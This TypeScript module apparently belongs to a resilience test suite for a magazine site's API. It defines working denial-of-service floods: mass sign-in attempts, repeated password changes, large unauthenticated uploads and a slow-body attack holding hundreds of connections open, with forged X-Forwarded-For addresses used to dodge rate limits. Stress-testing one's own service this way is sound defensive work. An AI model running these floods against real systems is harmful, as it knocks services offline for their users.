import { once } from 'node:events';
import { connect } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { openPerson } from '../lib/person.ts';
import { type Attack, call, fileForm, json, newReader, nextAddress, type Send } from './attack.ts';

const UPLOAD_BYTES = 8_000_000;
const SLOW_CONNECTIONS = 300;
const TRICKLE_MS = 500;

/** Floods of valid but costly calls. */
export const floods: Attack[] = [
  {
    name: 'flood: sign-in attempts from many addresses',
    atOnce: 24,
    async prepare(origin) {
      let attempt = 0;
      return () => {
        attempt += 1;
        const account = { email: `nadie-${attempt}@ataque.test`, password: `Mineria-${attempt}-x` };
        const person = openPerson(origin, nextAddress());
        return call(person, 'users/auth/login', json('POST', account));
      };
    },
  },
  {
    name: 'flood: password changes of one reader',
    atOnce: 16,
    async prepare(origin) {
      const reader = await newReader(origin);
      let turn = 0;
      return () => {
        turn += 1;
        const changed = `Cobre-y-molibdeno-${turn}`;
        // The first is right, most are wrong: both cost a password hash.
        const body = {
          current_password: reader.password,
          new_password: changed,
          confirm_password: changed,
        };
        return call(reader, 'users/auth/change-password/', json('POST', body));
      };
    },
  },
  {
    name: 'flood: uploads without a session',
    atOnce: 16,
    async prepare(origin) {
      const file = fileForm('PATCH', 'perfil_url', Buffer.alloc(UPLOAD_BYTES, 'x'));
      return () => call(openPerson(origin, nextAddress()), 'users/profile', file);
    },
  },
  {
    name: `flood: ${SLOW_CONNECTIONS} bodies that trickle`,
    atOnce: SLOW_CONNECTIONS,
    prepare: async (origin) => slowBody(origin),
  },
];

/** Slow-body attack: one byte at a time until the attack ends or the web closes the connection. */
function slowBody(origin: string): Send {
  const { hostname, port, host } = new URL(origin);
  return async (signal) => {
    const socket = connect(Number(port), hostname).on('error', () => undefined);
    let answer = '';
    socket.setEncoding('latin1').on('data', (text) => {
      answer += text;
    });
    await Promise.race([once(socket, 'connect'), once(socket, 'close')]);
    socket.write(
      [
        'POST /api/v1/magazine/contacts/ HTTP/1.1',
        `Host: ${host}`,
        `Origin: ${origin}`,
        `X-Forwarded-For: ${nextAddress()}`,
        'Content-Type: application/json',
        'Content-Length: 900000',
        '\r\n',
      ].join('\r\n'),
    );
    while (!signal.aborted && !socket.closed) {
      socket.write(' ');
      await pause(TRICKLE_MS);
    }
    socket.destroy();
    return Number(/^HTTP\/1\.1 (\d{3})/.exec(answer)?.[1] ?? 0);
  };
}
